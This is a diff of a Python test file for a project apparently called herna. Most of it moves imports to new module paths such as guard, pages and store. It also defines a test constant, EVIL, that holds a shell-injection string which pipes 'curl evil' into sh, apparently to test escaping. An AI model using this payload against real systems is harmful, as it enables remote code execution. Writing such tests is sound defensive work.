@@ -16,13 +16,13 @@ import pytest
 
 from herna.kernel.errors import BadRecord
 from herna.kernel.record import read
-from herna.web.chart import Chart, chart
-from herna.web.errors import plain
-from herna.web.guard import headers
+from herna.web.guard.headers import headers
+from herna.web.guard.readers import Reader
+from herna.web.pages.chart import Chart, chart
+from herna.web.pages.errors import plain
 from herna.web.pages.newtable import HUES, seat_rows
-from herna.web.readers import Reader
-from herna.web.rows import Visitor
-from herna.web.store import Store
+from herna.web.store.models import Visitor
+from herna.web.store.store import Store
 from web.guests import Guest, Inn, apart
 
 EVIL = "'; curl evil|sh; echo '"
